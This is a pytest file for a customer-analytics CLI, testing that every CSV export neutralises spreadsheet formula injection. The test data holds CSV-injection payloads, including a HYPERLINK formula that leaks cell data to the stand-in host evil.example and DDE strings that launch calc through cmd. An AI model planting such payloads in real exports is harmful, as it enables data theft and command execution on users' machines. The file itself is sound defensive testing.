"""Every CSV we write goes through one writer that neutralises spreadsheet formulas (OWASP: a leading
``'`` before ``= + - @ TAB CR``) and keeps numbers numeric."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import typer
from typer.testing import CliRunner

from retentio.analytics.render import csv_cell, to_csv
from retentio.cli import cohorts as cohorts_cli
from retentio.cli import ingest as ingest_cli
from retentio.cli import journey as journey_cli
from retentio.cli import kpi as kpi_cli
from retentio.cli import rfm as rfm_cli
from retentio.cli import segments as segments_cli

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
HOSTILE = [FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_a_formula_is_quoted(text: str) -> None:
    assert csv_cell(text) == "'" + text
    assert to_csv(("name",), [{"name": text}]).splitlines()[1].lstrip('"').startswith("'")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-12, -12),
        (-12.5, -12.5),
        (Decimal("-12.50"), "-12.50"),
        ("-12.50", "-12.50"),  # a money string that is a plain number stays a number
        ("+7", "+7"),
        ("-1,5", "-1,5"),
        ("1e-3", "1e-3"),
        (True, True),
        (None, ""),
        (float("nan"), ""),
        (date(2024, 1, 2), "2024-01-02"),
        (datetime(2024, 1, 2, 3, 4, tzinfo=UTC), "2024-01-02T03:04:00+00:00"),
        ("Анна", "Анна"),
        ("a=b", "a=b"),
        ("-", "'-"),
        ("-inf", "'-inf"),
        ("- 1", "'- 1"),
    ],
)
def test_numbers_stay_numbers_and_plain_text_is_untouched(value: Any, written: Any) -> None:
    assert csv_cell(value) == written


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_safe(text: str) -> None:
    """No cell of ``text`` would run as a formula in a spreadsheet."""
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                assert cell.lstrip("+-").replace(".", "").replace(",", "").isdigit(), (cell, text)


CUSTOMERS = f"""customer_id,email,first_name,last_name,city,acquisition_channel
"{FORMULA.replace('"', '""')}",a@example.ru,@SUM(1+1),-2+3,"+cmd|' /C calc'!A0",=1+1
c2,b@example.ru,Борис,Иванов,Москва,seo
"""
ORDERS = f"""order_id,customer_id,ordered_at,total
o1,"{FORMULA.replace('"', '""')}",2024-01-10T10:00:00,6000
o2,"{FORMULA.replace('"', '""')}",2024-02-10T10:00:00,7000
o3,c2,2024-01-15T10:00:00,100
"""
EVENTS = f"""event_id,customer_id,occurred_at,type
e1,"{FORMULA.replace('"', '""')}",2024-02-10T09:00:00,visit
e2,c2,2024-02-11T09:30:00,email_sent
"""
SEGMENT = "=cmd|'/C calc'!A0"


@pytest.fixture
def cli(home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    monkeypatch.setenv("RETENTIO_HOME", str(home))
    monkeypatch.delenv("RETENTIO_DATABASE_URL", raising=False)
    app = typer.Typer()
    for module in (ingest_cli, segments_cli, rfm_cli, journey_cli, kpi_cli, cohorts_cli):
        module.register(app)
    runner = CliRunner()

    def run(*args: str) -> Any:
        result = runner.invoke(app, list(args))
        assert result.exit_code == 0, result.output
        return result

    for table, text in (("customers", CUSTOMERS), ("orders", ORDERS), ("events", EVENTS)):
        path = tmp_path / f"{table}.csv"
        path.write_text(text, encoding="utf-8")
        run("ingest", table, str(path), "--format", "json")
    run("segments", "create", SEGMENT, "orders >= 1")
    run("segments", "refresh", "--as-of", "2024-03-01")
    return run


def test_every_csv_export_neutralises_hostile_names(cli: Any, tmp_path: Path) -> None:
    rfm = cli("rfm", "--as-of", "2024-03-01", "--format", "csv").stdout
    assert_safe(rfm)
    assert {r["customer_id"] for r in read_csv(rfm)} == {"'" + FORMULA, "c2"}

    members = cli("segments", "members", SEGMENT, "--format", "csv").stdout
    assert_safe(members)
    hostile = next(r for r in read_csv(members) if r["customer_id"] != "c2")
    assert (hostile["customer_id"], hostile["first_name"], hostile["last_name"]) == (
        "'" + FORMULA,
        "'@SUM(1+1)",
        "'-2+3",
    )
    out = tmp_path / "members.csv"
    cli("segments", "members", SEGMENT, "--out", str(out))
    assert_safe(out.read_text(encoding="utf-8"))
    assert "'" + FORMULA in {r["customer_id"] for r in read_csv(out.read_text(encoding="utf-8"))}

    listing = cli("segments", "list", "--format", "csv").stdout
    assert_safe(listing)
    assert read_csv(listing)[0]["name"] == "'" + SEGMENT
    for command in (
        ("segments", "show", SEGMENT, "--format", "csv"),
        ("segments", "history", SEGMENT, "--format", "csv"),
        ("segments", "refresh", "--as-of", "2024-03-01", "--format", "csv"),
    ):
        assert_safe(cli(*command).stdout)

    engagement = cli(
        "engagement", "--from", "2024-02-01", "--to", "2024-03-01", "--by", "segment", "--format", "csv"
    ).stdout
    assert_safe(engagement)
    assert "'" + SEGMENT in {r["group"] for r in read_csv(engagement)}

    for by in ("city", "channel"):
        kpi = cli("kpi", "--from", "2024-01-01", "--to", "2024-03-01", "--by", by, "--format", "csv").stdout
        assert_safe(kpi)
    kpi = cli("kpi", "--from", "2024-01-01", "--to", "2024-03-01", "--by", "city", "--format", "csv").stdout
    assert "'+cmd|' /C calc'!A0" in {r["group"] for r in read_csv(kpi)}
    assert_safe(cli("cohorts", "--as-of", "2024-03-01", "--format", "csv").stdout)


@pytest.mark.parametrize("target", ["/dev/full", "{tmp}"])
def test_members_export_to_an_unwritable_path_is_a_one_line_error(tmp_path: Path, target: str) -> None:
    from retentio.errors import UserError
    from retentio.segments.service import write_members_csv

    rows = [{"customer_id": "c1", "email": None, "first_name": "=1+1", "last_name": None, "entered_at": None}]
    with pytest.raises(UserError, match="cannot write") as caught:
        write_members_csv(rows, Path(target.format(tmp=tmp_path)))
    assert "\n" not in str(caught.value)
